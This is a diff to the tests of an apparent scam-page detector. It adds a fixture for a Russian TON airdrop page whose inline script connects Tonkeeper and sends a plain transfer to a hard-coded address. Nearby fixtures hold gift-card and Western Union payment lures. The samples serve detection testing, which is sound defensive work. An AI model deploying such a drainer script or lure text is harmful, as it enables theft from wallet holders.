@@ -1048,6 +1048,14 @@ describe('analysis: signal rules', () => {
       clean(judge('https://www.crypto-academy-kr.example/guide/seed', '<title>시드 구문이란? | 크립토 아카데미</title><h1>시드 구문이란?</h1><p>복구 구문은 지갑을 되살리는 12단어입니다. 종이에 적어 안전한 곳에 보관하세요.</p>'));
     });
 
+    it('a TON airdrop in Russian that connects Tonkeeper and sends a plain transfer to an address the page holds is a drainer; a TON swap whose message carries a payload is not plain', () => {
+      const drop = (message: string): ScanResult => judge('https://token-drop.example/claim', `<title>Раздача токенов</title><h2>Второй этап раздачи</h2><p>Подключите кошелёк TON, чтобы получить ваучеры.</p><button id="t">Подключить Tonkeeper</button><script>document.getElementById('t').onclick=async function(){var p=window.tonkeeper&&window.tonkeeper.provider;var acc=await p.send('ton_requestAccounts');await p.send('ton_sendTransaction',[{valid_until:1,messages:[{${message}}]}]);}</script>`);
+      const plain = drop("address:'UQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:String(9e8)");
+      assert.ok(plain.decidedBy?.includes('combo:wallet-lure-approval'), `${plain.verdict} ${plain.decidedBy?.join(',')} ${JSON.stringify(ids(plain))}`);
+      const swap = drop("address:'EQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:'100000000',payload:'te6cckEBAQEA'");
+      assert.ok(!ids(swap).includes('wallet-plain-transfer'), JSON.stringify(ids(swap)));
+    });
+
     it('how a scam wants to be paid: gift-card codes, a money-transfer agent, a private payee, the receipt over a messenger, secrecy from the bank, each beside a scam half or another payment trait; a shop that sells gift cards and a bank warning about them stay clean', () => {
       decides('untraceable-payment', 'https://escrow-vehicle-desk.example/order/77', '<h1>Your vehicle purchase is protected</h1><p>To release the car for shipping, purchase Steam gift cards totaling $4,200 at any Walmart and enter the codes below.</p><p>Do not discuss this transaction with store employees; they are not familiar with our program.</p>');
       decides('untraceable-payment', 'https://heritage-trust-claims.example/b/9', '<h1>Beneficiary notification</h1><p>You have been confirmed as the next of kin of the late Mr. Harold Vance.</p><p>Payment of the clearance fees should be made via Western Union to our remittance officer.</p>');
